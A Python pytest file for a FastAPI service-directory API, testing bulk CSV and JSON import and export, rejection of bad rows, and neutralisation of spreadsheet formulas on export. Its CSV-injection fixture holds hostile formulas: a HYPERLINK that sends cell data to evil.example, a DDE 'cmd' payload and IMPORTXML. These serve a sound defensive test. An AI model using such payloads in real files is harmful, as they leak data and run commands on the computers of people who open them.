"""Bulk import (all or nothing, bad records named) and export, CSV and JSON."""

from __future__ import annotations

import csv
import io
import json

from fastapi.testclient import TestClient

from servicekit.errors import PROBLEM_JSON, TYPE_BASE

CSV = """name,description,keywords,groups,lgsl_codes,phone,online_url,attributes
Report graffiti,Graffiti on walls,graffiti;vandalism,Environment,1039,01908 252570,,
Report a street light fault,Lights out,street lights;lighting,Roads and transport,,,\
https://www.milton-keynes.gov.uk/lights,"[{""code"": ""pole"", ""description"": ""Pole number""}]"
"""
BAD_CSV = """name,description,keywords,groups,lgsl_codes,phone,online_url,attributes
Report graffiti,Graffiti on walls,graffiti,Environment,1039,,,
,No name here,x,Environment,,,,
Report dog fouling,Dog mess,dogs,Environment,not-a-number,,http://insecure.example,
"""


def test_csv_import_then_export(client: TestClient) -> None:
    r = client.post(
        "/api/v1/services/import", content=CSV.encode(), headers={"Content-Type": "text/csv"}
    )
    assert r.status_code == 201, r.text
    imported = {s["name"]: s for s in r.json()}
    assert imported["Report graffiti"]["keywords"] == ["graffiti", "vandalism"]
    assert imported["Report graffiti"]["lgsl_codes"] == [1039]
    assert imported["Report graffiti"]["channels"]["phone"] == "01908 252570"
    assert imported["Report a street light fault"]["attributes"][0]["code"] == "pole"
    assert {s["status"] for s in r.json()} == {"draft"}

    exported = client.get("/api/v1/services/export", params={"format": "csv"})
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [row["name"] for row in rows] == ["Report a street light fault", "Report graffiti"]
    assert rows[1]["keywords"] == "graffiti;vandalism"
    as_json = client.get("/api/v1/services/export").json()
    assert len(as_json) == 2
    # A round trip: the export (renamed) imports again.
    again = [
        {
            k: v
            for k, v in s.items()
            if k in ("name", "description", "keywords", "groups", "lgsl_codes", "attributes")
        }
        | {"name": s["name"] + " (copy)"}
        for s in as_json
    ]
    r = client.post(
        "/api/v1/services/import",
        content=json.dumps(again),
        headers={"Content-Type": "application/json"},
    )
    assert r.status_code == 201, r.text


def test_a_csv_with_bad_rows_imports_nothing_and_names_them(client: TestClient) -> None:
    r = client.post(
        "/api/v1/services/import", content=BAD_CSV.encode(), headers={"Content-Type": "text/csv"}
    )
    assert r.status_code == 422, r.text
    assert r.headers["content-type"] == PROBLEM_JSON
    body = r.json()
    assert body["type"] == TYPE_BASE + "import-rejected"
    bad = {(e["row"], e["field"].split(".")[0]) for e in body["errors"]}
    assert (2, "name") in bad and (3, "lgsl_codes") in bad and (3, "channels") in bad
    assert all(e["row"] != 1 for e in body["errors"])
    assert client.get("/api/v1/services/export").json() == []


def test_duplicates_and_malformed_files_import_nothing(client: TestClient) -> None:
    dup = [{"name": "Blue badge"}, {"name": "Apply", "slug": "blue-badge"}]
    r = client.post("/api/v1/services/import", json=dup)
    assert r.status_code == 422, r.text
    assert {(e["row"], e["field"]) for e in r.json()["errors"]} == {
        (2, "slug"),
        (2, "service_code"),
    }
    for content, content_type, status in (
        (b"nonsense,columns\n1,2\n", "text/csv", 422),
        (b'"unterminated\n', "text/csv", 422),
        (b"\xff\xfe", "text/csv", 422),
        (b"{}", "application/json", 422),
        (b"name\nx\n", "text/plain", 415),
    ):
        r = client.post(
            "/api/v1/services/import", content=content, headers={"Content-Type": content_type}
        )
        assert r.status_code == status, (content, r.text)
        assert r.headers["content-type"] == PROBLEM_JSON
    assert client.get("/api/v1/services/export").json() == []


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "slug": "formula-test",
    "service_code": "-23",
    "description": "\t=1+1 starts with a tab",
    "keywords": ["@SUM(A1:A9)", "fine"],
    "groups": ["+cmd|' /C calc'!A0"],
    "department": "'=already quoted",
    "eligibility": "=IMPORTXML(A1)",
    "fees": "'plain'",
    "audience": ["-1"],
    "opening_hours": "\r=2+2",
    "channels": {"phone": "+44 1908 252570", "venue": "@venue", "sms": "-0 7700 900123"},
}
FORMULA_START = set("=+-@\t\r\0")


def test_csv_export_neutralises_formulas_and_imports_back_to_the_same_values(
    client: TestClient,
) -> None:
    """OWASP CSV injection: no exported cell starts a spreadsheet formula (it has a single
    quote in front); importing the export restores every original value."""
    created = client.post("/api/v1/services", json=FORMULAS)
    assert created.status_code == 201, created.text
    exported = client.get("/api/v1/services/export", params={"format": "csv"}).text
    [row] = list(csv.DictReader(io.StringIO(exported)))
    cells = [v for v in row.values() if v]
    assert all(v[:1] not in FORMULA_START for v in cells), row
    assert row["name"] == "'" + FORMULAS["name"] and row["department"] == "''=already quoted"
    assert row["fees"] == "'plain'" and row["phone"] == "'+44 1908 252570"

    copy = exported.replace('"formula-test"', '"formula-copy"').replace('"\'-23"', '"\'-23-copy"')
    imported = client.post(
        "/api/v1/services/import", content=copy.encode(), headers={"Content-Type": "text/csv"}
    )
    assert imported.status_code == 201, imported.text
    [again] = imported.json()
    assert again["service_code"] == "-23-copy" and again["slug"] == "formula-copy"
    original = created.json()
    for field in (
        "name",
        "description",
        "keywords",
        "groups",
        "department",
        "eligibility",
        "fees",
        "audience",
        "opening_hours",
        "channels",
        "lgsl_codes",
        "attributes",
    ):
        assert again[field] == original[field], field
